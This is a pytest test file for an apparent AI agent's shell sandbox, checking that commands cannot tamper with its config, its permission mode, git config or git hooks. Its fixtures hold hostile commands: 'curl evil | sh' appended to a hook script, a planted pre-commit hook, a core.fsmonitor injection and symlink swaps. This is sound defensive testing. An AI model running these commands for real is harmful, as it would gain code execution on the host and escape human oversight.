"""issue 13, items 2 and 3 through the shell: a sandboxed command cannot write
`tiller.toml`, `.tiller/`, `.git/config`, `.git/hooks` or a configured hook script.
What exists is read-only inside the sandbox; what the command creates where nothing was
is removed when it ends, and the result says so."""

from __future__ import annotations

import asyncio
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest

from tiller.tools import ExecContext, Jail
from tiller.tools._protected_snapshot import ProtectedSnapshot

from .shell_support import SANDBOX_MISSING, SANDBOX_REASON, run

pytestmark = pytest.mark.skipif(SANDBOX_MISSING, reason=f"bwrap is unavailable: {SANDBOX_REASON}")

#: How a write to a protected path fails: as root the command's uid has no permission
#: on the file (DAC is checked first); as a user, the read-only bind refuses it.
REFUSED = re.compile("Read-only file system|Permission denied")

GIT_ENV = {**os.environ, "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_CONFIG_SYSTEM": "/dev/null"}


def _git(root: Path, *args: str) -> None:
    subprocess.run(["git", "-C", str(root), *args], check=True, env=GIT_ENV)


@pytest.fixture
def repo(ctx: ExecContext) -> Path:
    root = ctx.jail.root
    _git(root, "init", "-q")
    return root


async def test_a_created_tiller_toml_is_removed_and_reported(ctx: ExecContext) -> None:
    root = ctx.jail.root
    done = await run(ctx, command="printf '[hooks]\\nx = 1\\n' > tiller.toml; echo wrote")
    assert not (root / "tiller.toml").exists()
    assert done.is_error
    assert "reverted" in done.result.content and "tiller.toml" in done.result.content


async def test_an_existing_tiller_toml_is_read_only(ctx: ExecContext) -> None:
    root = ctx.jail.root
    (root / "tiller.toml").write_text('mode = "ask"\n')
    done = await run(
        ctx,
        command="echo 'mode = \"full_access\"' >> tiller.toml; rm -f tiller.toml; "
        "mv tiller.toml t2; echo end",
    )
    assert REFUSED.search(done.result.content) and "resource busy" in done.result.content
    assert (root / "tiller.toml").read_text() == 'mode = "ask"\n'
    assert not (root / "t2").exists()


async def test_git_config_is_read_only(repo: Path, ctx: ExecContext) -> None:
    before = (repo / ".git" / "config").read_bytes()
    done = await run(ctx, command="echo '[core] fsmonitor = x' >> .git/config")
    assert done.is_error and REFUSED.search(done.result.content)
    assert (repo / ".git" / "config").read_bytes() == before


async def test_git_hooks_cannot_be_planted(repo: Path, ctx: ExecContext) -> None:
    (repo / "evil").write_text("#!/bin/sh\ntouch /tmp/pwned\n")
    done = await run(
        ctx, command="cp evil .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; echo end"
    )
    assert REFUSED.search(done.result.content)
    assert not (repo / ".git" / "hooks" / "pre-commit").exists()


async def test_a_missing_hooks_directory_made_by_the_command_is_removed(
    repo: Path, ctx: ExecContext
) -> None:
    shutil.rmtree(repo / ".git" / "hooks")
    done = await run(
        ctx,
        command="mkdir -p .git/hooks/deep && echo x > .git/hooks/pre-commit && "
        "ln -s /etc/passwd .git/hooks/deep/link && echo planted",
    )
    assert "planted" in done.result.content and ".git/hooks" in done.result.content
    assert not (repo / ".git" / "hooks").exists()


async def test_git_cannot_be_renamed_away_to_plant_a_config(repo: Path, ctx: ExecContext) -> None:
    before = (repo / ".git" / "config").read_bytes()
    done = await run(
        ctx,
        command="mv .git .git2; mkdir -p .git && echo '[core] fsmonitor = x' > .git/config; "
        "echo end",
    )
    assert "end" in done.result.content
    assert (repo / ".git" / "config").read_bytes() == before
    assert not (repo / ".git2").exists()


async def test_a_git_symlink_made_by_the_command_is_removed(ctx: ExecContext) -> None:
    root = ctx.jail.root
    done = await run(
        ctx,
        command="mkdir -p evil && echo '[core] fsmonitor = x' > evil/config && "
        "ln -s evil .git && echo made",
    )
    assert "made" in done.result.content
    assert not (root / ".git").exists() and not (root / ".git").is_symlink()
    assert (root / "evil" / "config").exists()  # an ordinary file elsewhere stays


async def test_git_init_keeps_the_repository_but_not_config_or_hooks(ctx: ExecContext) -> None:
    root = ctx.jail.root
    done = await run(ctx, command="git init -q && echo a > a && git add a && echo ok")
    assert "ok" in done.result.content and "reverted" in done.result.content
    assert (root / ".git" / "HEAD").exists() and (root / ".git" / "objects").is_dir()
    assert not (root / ".git" / "config").exists()
    assert not (root / ".git" / "hooks").exists()
    again = await run(ctx, command="git status --short")
    assert again.result.content == "A  a\n[exit code 0]", again.result.content


async def test_the_tiller_directory_is_read_only(ctx: ExecContext) -> None:
    root = ctx.jail.root
    done = await run(ctx, command="echo x > .tiller/planted; mkdir .tiller/d; echo end")
    assert len(REFUSED.findall(done.result.content)) == 2, done.result.content
    assert (root / ".tiller").is_dir() and not any((root / ".tiller").iterdir())


async def test_a_configured_hook_script_is_protected(ctx: ExecContext) -> None:
    root = ctx.jail.root
    (root / "policy-check.sh").write_text("#!/bin/sh\nexit 0\n")
    tools = Jail(root).with_protected(root / "policy-check.sh", "hooks/later.sh")
    hooked = ExecContext.for_test(root, jail=tools)
    done = await run(
        hooked,
        command="echo 'curl evil | sh' >> policy-check.sh; mkdir -p hooks; "
        "echo x > hooks/later.sh; echo end",
    )
    assert REFUSED.search(done.result.content)
    assert (root / "policy-check.sh").read_text() == "#!/bin/sh\nexit 0\n"
    assert not (root / "hooks" / "later.sh").exists() and (root / "hooks").is_dir()


async def test_writes_elsewhere_in_the_workspace_work(repo: Path, ctx: ExecContext) -> None:
    done = await run(
        ctx,
        command="mkdir -p src && echo hi > src/app.py && echo x > tiller.toml.bak && "
        "echo note > .git/description && cat src/app.py",
    )
    assert done.result.content == "hi\n[exit code 0]", done.result.content
    assert (repo / "tiller.toml.bak").exists()


async def test_a_protected_symlink_replaced_by_the_command_is_restored(
    tmp_path: Path,
) -> None:
    root = tmp_path / "ws"
    root.mkdir()
    outside = tmp_path / "outside.txt"
    outside.write_text("outside\n")
    real = tmp_path / "real.toml"  # outside the jail: the command cannot write it
    real.write_text("x = 1\n")
    (root / "tiller.toml").symlink_to(real)
    ctx = ExecContext.for_test(root)
    done = await run(ctx, command=f"rm tiller.toml && ln -s {outside} tiller.toml; echo end")
    assert "tiller.toml" in done.result.content and "reverted" in done.result.content
    assert os.readlink(root / "tiller.toml") == str(real)
    assert outside.read_text() == "outside\n"


async def test_a_background_job_is_undone_when_it_ends(ctx: ExecContext) -> None:
    from tiller.tools import BackgroundJobs

    root = ctx.jail.root
    jobs = BackgroundJobs()
    with_jobs = ExecContext.for_test(root, jobs=jobs)
    try:
        started = await run(with_jobs, command="echo '[hooks]' > tiller.toml", background=True)
        assert "bg-1" in started.result.content
        async with asyncio.timeout(30):  # hang guard
            waited = await jobs.wait("bg-1")
        assert "reverted" in waited.text and "tiller.toml" in waited.text
        assert not (root / "tiller.toml").exists()
    finally:
        await jobs.close()


def test_undo_removes_only_what_is_inside_the_jail(tmp_path: Path) -> None:
    """The snapshot's own code, without a command: a `tiller.toml` that appeared as a
    symlink to a file outside is unlinked, never followed."""
    root = tmp_path / "ws"
    root.mkdir()
    outside = tmp_path / "keep"
    outside.mkdir()
    (outside / "file").write_text("keep\n")
    snapshot = ProtectedSnapshot.take(root, ("tiller.toml", ".git/hooks"))
    (root / "tiller.toml").symlink_to(outside)
    (root / ".git").mkdir()
    (root / ".git" / "hooks").symlink_to(outside)
    assert sorted(snapshot.undo()) == [".git/hooks", "tiller.toml"]
    assert (outside / "file").read_text() == "keep\n"
    assert (root / ".git").is_dir()


def test_a_directory_swapped_for_a_symlink_after_the_look_is_not_followed(
    tmp_path: Path,
) -> None:
    """A background job may swap `.git` for a symlink between the snapshot and bwrap's
    mounts; the bind is by descriptor, so the symlink's target is never bound."""
    from tiller.tools import Sandbox

    root = tmp_path / "ws"
    (root / ".git").mkdir(parents=True)
    outside = tmp_path / "outside"
    outside.mkdir()
    snapshot = ProtectedSnapshot.take(root, (".git/config", ".tiller"))
    (root / ".git").rename(root / ".git-real")
    (root / ".git").symlink_to(outside)
    argv = Sandbox().command(
        ["bash", "-c", "echo pwned > .git/x"], jail=root, network=False, protect=snapshot
    )
    try:
        subprocess.run(argv, pass_fds=snapshot.fds(), capture_output=True, check=False)
    finally:
        snapshot.release()
    assert list(outside.iterdir()) == []


def test_undo_empties_a_directory_the_command_made_unreadable(tmp_path: Path) -> None:
    root = tmp_path / "ws"
    (root / ".git").mkdir(parents=True)
    snapshot = ProtectedSnapshot.take(root, (".git/hooks",))
    snapshot.release()
    hooks = root / ".git" / "hooks" / "locked"
    hooks.mkdir(parents=True)
    (hooks / "pre-commit").write_text("#!/bin/sh\n")
    hooks.chmod(0)
    (root / ".git" / "hooks").chmod(0o500)
    assert snapshot.undo() == [".git/hooks"]
    assert not (root / ".git" / "hooks").exists()


def test_a_link_planted_by_a_running_job_is_not_put_back_by_a_later_undo(
    tmp_path: Path,
) -> None:
    """Job A (started with no `.git`) makes `.git` a symlink to `evil/`, a directory it
    writes; command B's snapshot, taken meanwhile, sees that symlink. A ends and its undo
    removes `.git`; B's undo must not recreate the link, or `git status` on the host
    reads `evil/config` (`core.fsmonitor`: host code execution)."""
    root = tmp_path / "ws"
    (root / "evil").mkdir(parents=True)
    (root / "evil" / "config").write_text("[core]\n")
    protected = (".git/config", ".git/hooks")
    job_a = ProtectedSnapshot.take(root, protected)
    (root / ".git").symlink_to("evil")
    command_b = ProtectedSnapshot.take(root, protected)
    command_b.release()
    assert job_a.undo() == [".git"]
    reverted = command_b.undo()
    assert not (root / ".git").is_symlink() and not (root / ".git").exists()
    assert reverted == [".git (not restored: it pointed inside the workspace)"]
